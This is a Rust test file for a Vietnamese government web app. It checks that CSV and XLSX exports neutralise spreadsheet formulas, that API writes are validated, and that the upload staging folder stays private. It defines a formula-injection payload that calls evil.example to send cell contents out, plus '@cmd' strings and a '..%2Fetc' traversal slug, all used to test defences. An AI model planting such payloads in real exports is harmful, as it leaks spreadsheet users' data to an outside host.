//! Hostile clients (issue 9): exports that never carry a live formula, JSON API writes held to
//! the forms' rules, and the staging folder refused when others could read it. Each test runs
//! on SQLite and, when `TEST_DATABASE_URL` is set, on PostgreSQL.

mod common;

use axum::body::Body;
use axum::http::{header, Request, StatusCode};
use calamine::{Data, Reader, Xlsx};
use common::TestApp;
use http_body_util::BodyExt;
use parindex_store::testing::TestDb;
use rust_decimal::Decimal;
use serde_json::Value;
use tower::ServiceExt;

/// Run `async fn NAME(app: &TestApp)` on both backends.
macro_rules! both {
    ($($name:ident),* $(,)?) => {
        mod sqlite {
            $(
                #[tokio::test]
                async fn $name() {
                    let app = super::TestApp::on(super::TestDb::sqlite().await.unwrap()).await;
                    super::$name(&app).await;
                    app.db.cleanup().await;
                }
            )*
        }
        mod postgres {
            $(
                #[tokio::test]
                async fn $name() {
                    match super::TestDb::postgres().await.unwrap() {
                        Some(db) => {
                            let app = super::TestApp::on(db).await;
                            super::$name(&app).await;
                            app.db.cleanup().await;
                        }
                        None => eprintln!("TEST_DATABASE_URL not set: PostgreSQL run skipped"),
                    }
                }
            )*
        }
    };
}

both!(
    edition_exports_carry_no_formula,
    a_huge_unit_name_by_the_api_is_refused_and_nothing_stored,
    api_unit_writes_follow_the_form_rules,
);

const EVIL: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm vào đây\")";

/// A GET as `role`, the body as bytes.
async fn get_bytes(app: &TestApp, path: &str, role: &str) -> (StatusCode, Vec<u8>) {
    let req = Request::get(path)
        .header(
            header::COOKIE,
            format!("parindex_session={}", app.sessions[role].1),
        )
        .body(Body::empty())
        .unwrap();
    let res = app.router.clone().oneshot(req).await.unwrap();
    let status = res.status();
    let bytes = res.into_body().collect().await.unwrap().to_bytes();
    (status, bytes.to_vec())
}

/// No spreadsheet reads this cell as a formula.
fn assert_inert(cell: &str, where_: &str) {
    assert!(
        !matches!(cell.chars().next(), Some('=' | '+' | '@' | '\t' | '\r')),
        "{where_}: {cell:?} starts a formula"
    );
    if let Some(rest) = cell.strip_prefix('-') {
        assert!(
            rest.parse::<Decimal>().is_ok(),
            "{where_}: {cell:?} starts with '-' before a non-number"
        );
    }
}

async fn edition_exports_carry_no_formula(app: &TestApp) {
    let mut e = app
        .store()
        .edition("par-2020-province")
        .await
        .unwrap()
        .unwrap();
    e.name = EVIL.into();
    e.notes = Some("@SUM(A1:A9)".into());
    e.criteria[0].title_vi = EVIL.into();
    e.criteria[0].title_en = Some("-2+3".into());
    app.store().save_edition(&e, "test").await.unwrap();

    let (status, csv) = get_bytes(
        app,
        "/editions/par-2020-province/export?format=csv",
        "agency",
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    let text = String::from_utf8(csv).unwrap();
    let mut cells = Vec::new();
    for rec in csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes())
        .records()
    {
        cells.extend(rec.unwrap().iter().map(str::to_string));
    }
    for c in &cells {
        assert_inert(c, "criteria CSV");
    }
    assert!(cells.contains(&format!("'{EVIL}")), "{cells:?}");
    assert!(cells.contains(&"'-2+3".to_string()), "{cells:?}");

    let (status, xlsx) = get_bytes(
        app,
        "/editions/par-2020-province/export?format=xlsx",
        "agency",
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    let mut wb = Xlsx::new(std::io::Cursor::new(xlsx)).unwrap();
    let mut texts = Vec::new();
    for name in wb.sheet_names() {
        let range = wb.worksheet_range(&name).unwrap();
        for c in range.used_cells() {
            if let Data::String(s) = c.2 {
                texts.push(s.clone());
            }
        }
        let formulas = wb.worksheet_formula(&name).unwrap();
        assert!(formulas.used_cells().all(|c| c.2.is_empty()), "{name}");
    }
    for t in &texts {
        assert_inert(t, "edition XLSX");
    }
    assert!(texts.contains(&format!("'{EVIL}")), "{texts:?}");
    assert!(texts.contains(&"'@SUM(A1:A9)".to_string()), "{texts:?}");
}

async fn a_huge_unit_name_by_the_api_is_refused_and_nothing_stored(app: &TestApp) {
    let before = app.store().unit("so-tu-phap").await.unwrap().unwrap();
    let audit_before = app
        .get("/api/v1/audit?entity=unit", Some("coordinator"))
        .await
        .body;
    let huge = "A".repeat(2_000_000);
    for role in ["agency", "coordinator"] {
        let body = serde_json::json!({ "name_vi": huge, "head_name": "Nguyễn Văn B" }).to_string();
        let res = app
            .put_json("/api/v1/units/so-tu-phap", role, &body, true)
            .await;
        assert_eq!(res.status, StatusCode::UNPROCESSABLE_ENTITY, "{role}");
        let v: Value = serde_json::from_str(&res.body).unwrap();
        assert_eq!(v["field"], "name_vi", "{v}");
        assert_eq!(v["problems"][0]["message"], "Tối đa 200 ký tự.", "{v}");
    }
    assert_eq!(
        app.store().unit("so-tu-phap").await.unwrap().unwrap(),
        before,
        "nothing stored, not even the valid head_name"
    );
    assert_eq!(
        app.get("/api/v1/audit?entity=unit", Some("coordinator"))
            .await
            .body,
        audit_before,
        "no audit record"
    );
    // The form says the same.
    let res = app
        .post(
            "/units/so-tu-phap",
            Some("agency"),
            &[("name_vi", "Sở Tư pháp"), ("head_title", &"x".repeat(201))],
            None,
        )
        .await;
    assert_eq!(res.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(res.body.contains("head-title-err"), "{}", res.body);
    assert_eq!(
        app.store().unit("so-tu-phap").await.unwrap().unwrap(),
        before
    );
}

async fn api_unit_writes_follow_the_form_rules(app: &TestApp) {
    let before = app.store().unit("so-tu-phap").await.unwrap().unwrap();
    let put = |path: &'static str, body: &'static str| async move {
        let res = app.put_json(path, "coordinator", body, true).await;
        let v: Value = serde_json::from_str(&res.body).unwrap_or(Value::Null);
        (res.status, v)
    };
    // A path that is not a slug: named, never looked up.
    for path in [
        "/api/v1/units/So%20Tu%20Phap",
        "/api/v1/units/a--b",
        "/api/v1/units/..%2Fetc",
    ] {
        let (status, v) = put(path, r#"{"head_name":"X"}"#).await;
        assert!(status.is_client_error(), "{path}: {status}");
        if status == StatusCode::UNPROCESSABLE_ENTITY {
            assert_eq!(v["field"], "slug", "{path}: {v}");
        }
    }
    let (status, v) = put("/api/v1/units/So-Tu-Phap", r#"{"head_name":"X"}"#).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(v["field"], "slug", "{v}");
    // Each field to its limit, every problem named.
    let res = app
        .put_json(
            "/api/v1/units/so-tu-phap",
            "coordinator",
            &serde_json::json!({ "name_en": "e".repeat(201), "head_title": "t".repeat(201) })
                .to_string(),
            true,
        )
        .await;
    assert_eq!(res.status, StatusCode::UNPROCESSABLE_ENTITY);
    let v: Value = serde_json::from_str(&res.body).unwrap();
    let fields: Vec<&str> = v["problems"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["field"].as_str().unwrap())
        .collect();
    assert_eq!(fields, ["name_en", "head_title"], "{v}");
    // A blank name, unknown fields, wrong types, not JSON: refused.
    let (status, v) = put("/api/v1/units/so-tu-phap", r#"{"name_vi":"   "}"#).await;
    assert_eq!(
        (status, v["field"].as_str()),
        (StatusCode::UNPROCESSABLE_ENTITY, Some("name_vi"))
    );
    let (status, v) = put(
        "/api/v1/units/so-tu-phap",
        r#"{"slug":"x","unit_type":"province"}"#,
    )
    .await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{v}");
    assert!(
        v["error"].as_str().is_some_and(|e| e.contains("JSON")),
        "{v}"
    );
    let (status, _) = put("/api/v1/units/so-tu-phap", r#"{"name_vi":42}"#).await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    let (status, _) = put("/api/v1/units/so-tu-phap", "name_vi=x").await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert_eq!(
        app.store().unit("so-tu-phap").await.unwrap().unwrap(),
        before
    );
    // 200 characters exactly (Vietnamese letters: characters, not bytes) are stored, NFC.
    let name = "Sở Tư pháp ".to_string() + &"ệ".repeat(189);
    assert_eq!(name.chars().count(), 200);
    let res = app
        .put_json(
            "/api/v1/units/so-tu-phap",
            "agency",
            &serde_json::json!({ "name_vi": name, "head_name": "" }).to_string(),
            true,
        )
        .await;
    assert_eq!(res.status, StatusCode::OK, "{}", res.body);
    let u = app.store().unit("so-tu-phap").await.unwrap().unwrap();
    assert_eq!(u.name_vi, name);
    assert_eq!(u.head_name, None);
}

/// The pages' workbooks (tasks, board, calendar, compliance…) share one writer with the data
/// files and the Chairman's report (`interchange::sheet`).
#[test]
fn plan_workbooks_carry_no_formula() {
    use parindex_interchange::sheet::xlsx_bytes;
    use parindex_web::export::{Cell, Sheet};
    let mut sheet = Sheet::new("Nhiệm vụ", vec!["=Tiêu đề".into(), "Số".into()]);
    sheet.rows = vec![
        vec![
            Cell::Text(EVIL.into()),
            Cell::Dec(rust_decimal_macros::dec!(-0.25)),
        ],
        vec![Cell::Text("@cmd".into()), Cell::Int(3)],
        vec![
            Cell::Text("-0.25".into()),
            Cell::Text("- gạch đầu dòng".into()),
        ],
    ];
    let bytes = xlsx_bytes(&[sheet]).unwrap();
    let mut wb = Xlsx::new(std::io::Cursor::new(bytes)).unwrap();
    let range = wb.worksheet_range("Nhiệm vụ").unwrap();
    let mut texts = Vec::new();
    let mut numbers = Vec::new();
    for c in range.used_cells() {
        match c.2 {
            Data::String(s) => texts.push(s.clone()),
            Data::Float(f) => numbers.push(*f),
            _ => {}
        }
    }
    for t in &texts {
        assert_inert(t, "plan workbook");
    }
    assert_eq!(
        texts,
        [
            "'=Tiêu đề".to_string(),
            "Số".into(),
            format!("'{EVIL}"),
            "'@cmd".into(),
            "-0.25".into(),
            "'- gạch đầu dòng".into()
        ]
    );
    assert_eq!(numbers, [-0.25, 3.0], "numbers stay numbers");
}

// ----- files and folders

#[cfg(unix)]
mod folders {
    use super::*;
    use parindex_web::{router, AppState, WebConfig};
    use std::os::unix::fs::{MetadataExt, PermissionsExt};
    use std::path::Path;

    const BOUNDARY: &str = "----parindex-hostile";

    fn mode(p: &Path) -> u32 {
        std::fs::metadata(p).unwrap().mode() & 0o777
    }

    /// A check of a small dossier file, as the coordinator, on an app whose staging folder is
    /// `staging`.
    async fn check(app: &TestApp, staging: &Path) -> (StatusCode, String) {
        let (status, _, body) = send(app, staging, "check").await;
        (status, body)
    }

    async fn send(
        app: &TestApp,
        staging: &Path,
        mode: &str,
    ) -> (StatusCode, axum::http::HeaderMap, String) {
        let r = router(AppState {
            store: app.store().clone(),
            config: WebConfig {
                login_delay_ms: 1,
                staging_dir: staging.to_path_buf(),
                ..WebConfig::default()
            },
            clock: parindex_domain::calendar::Clock::Fixed(jiff::civil::date(2021, 8, 15)),
        });
        let csv = "code,agency,procedure,level,online_level,received_at,due_at,result_at,closed_at,status\n\
                   TP-1,so-tu-phap,1.001,province,3,2021-07-01T08:00:00+07:00,2021-07-09,,2021-07-05T10:00:00+07:00,closed\n";
        let body = format!(
            "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"thang-7.csv\"\r\nContent-Type: text/csv\r\n\r\n{csv}\r\n\
             --{BOUNDARY}\r\nContent-Disposition: form-data; name=\"mode\"\r\n\r\n{mode}\r\n--{BOUNDARY}--\r\n"
        );
        let req = Request::post(format!("/dossiers?_csrf={}", app.csrf("coordinator")))
            .header(
                header::CONTENT_TYPE,
                format!("multipart/form-data; boundary={BOUNDARY}"),
            )
            .header(
                header::COOKIE,
                format!("parindex_session={}", app.sessions["coordinator"].1),
            )
            .body(Body::from(body))
            .unwrap();
        let res = r.oneshot(req).await.unwrap();
        let status = res.status();
        let headers = res.headers().clone();
        let bytes = res.into_body().collect().await.unwrap().to_bytes();
        (
            status,
            headers,
            String::from_utf8_lossy(&bytes).into_owned(),
        )
    }

    /// Object scope: the notice of a dossier import is its importer's; an agency user asking
    /// for the coordinator's import id, or for another unit's late dossiers, gets nothing.
    async fn another_users_dossier_import_is_not_shown(app: &TestApp) {
        let tmp = tempfile::tempdir().unwrap();
        let (status, headers, body) = send(app, &tmp.path().join("staged"), "import").await;
        assert_eq!(status, StatusCode::SEE_OTHER, "{body}");
        let to = headers[header::LOCATION].to_str().unwrap().to_string();
        assert!(to.starts_with("/dossiers?import="), "{to}");
        let own = app.get(&to, Some("coordinator")).await;
        assert!(own.body.contains("thang-7.csv"), "the importer's notice");
        let other = app.get(&to, Some("agency")).await;
        assert!(
            other.status == StatusCode::OK || other.status.is_client_error(),
            "{}",
            other.status
        );
        assert!(
            !other.body.contains("thang-7.csv"),
            "no notice for someone else"
        );
        for path in ["/dossiers/so-tai-chinh", "/dossiers/so-tai-chinh/TP-1"] {
            let res = app.get(path, Some("agency")).await;
            assert_eq!(res.status, StatusCode::FORBIDDEN, "{path}");
        }
    }

    both!(
        the_staging_folder_is_private_or_refused,
        another_users_dossier_import_is_not_shown
    );

    async fn the_staging_folder_is_private_or_refused(app: &TestApp) {
        let tmp = tempfile::tempdir().unwrap();
        // Missing: created 0700; the staged file and its record 0600 in a 0700 folder.
        let staging = tmp.path().join("staged");
        let (status, body) = check(app, &staging).await;
        assert_eq!(status, StatusCode::OK, "{body}");
        assert!(body.contains("id=\"dossier-staged\""), "{body}");
        assert_eq!(mode(&staging), 0o700);
        let ids: Vec<_> = std::fs::read_dir(&staging)
            .unwrap()
            .map(|e| e.unwrap().path())
            .collect();
        assert_eq!(ids.len(), 1);
        assert_eq!(mode(&ids[0]), 0o700);
        assert_eq!(mode(&ids[0].join("upload.csv")), 0o600);
        assert_eq!(mode(&ids[0].join("meta.json")), 0o600);

        // Open to others: refused, named with the reason, nothing received or staged.
        let open = tmp.path().join("open");
        std::fs::create_dir(&open).unwrap();
        std::fs::set_permissions(&open, std::fs::Permissions::from_mode(0o755)).unwrap();
        let (status, body) = check(app, &open).await;
        assert_eq!(status, StatusCode::INTERNAL_SERVER_ERROR);
        assert!(
            body.contains(open.to_str().unwrap())
                && body.contains("nhóm hoặc người dùng khác có quyền truy cập"),
            "{body}"
        );
        assert!(!body.contains("id=\"dossier-staged\""));
        assert_eq!(std::fs::read_dir(&open).unwrap().count(), 0);
        assert_eq!(mode(&open), 0o755, "left as found");
    }
}
